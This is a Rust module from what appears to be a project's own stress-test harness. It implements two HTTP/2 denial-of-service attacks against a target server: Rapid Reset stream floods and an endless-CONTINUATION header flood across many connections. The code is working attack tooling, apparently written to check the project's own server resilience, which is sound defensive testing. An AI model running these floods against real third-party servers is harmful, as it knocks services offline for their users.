//! Attacks that are possible only with HTTP/2.

use std::thread;
use std::time::Duration;

use super::super::attacker::Field;
use super::super::http2::{CONTINUATION, FRAME, HEADERS, Http2, header};
use super::super::swarm;
use super::super::target;
use xtask::Result;

/// Calls that are started and immediately reset.
pub(super) fn rapid_reset(field: &Field) -> Result<()> {
    let call = target::modern("1", "tools/list", "", "");
    swarm::run(
        field,
        &swarm::Plan {
            connections: 8,
            streams: 100,
            closed: false,
            request: &|_| call.clone(),
            reset: true,
        },
    );
    Ok(())
}

/// Headers without end.
pub(super) fn continuations(field: &Field) -> Result<()> {
    let mut filler = Vec::new();
    header(&mut filler, "x-filler", &"f".repeat(FRAME - 64));
    let call = target::modern("1", "tools/list", "", "");
    let mut connections: Vec<Http2<'_>> = Vec::new();
    while !field.over() {
        if connections.len() < 200
            && let Ok(mut connection) = Http2::open(field, false)
        {
            let (id, block) = (connection.next_id(), connection.block(&call));
            // Without END_HEADERS and END_STREAM.
            connection.frame(HEADERS, 0, id, &block);
            connections.push(connection);
        }
        for connection in &mut connections {
            if !connection.busy() {
                connection.frame(CONTINUATION, 0, 1, &filler);
            }
            connection.pump();
        }
        connections.retain(|connection| !connection.ended());
        thread::sleep(Duration::from_millis(2));
    }
    Ok(())
}
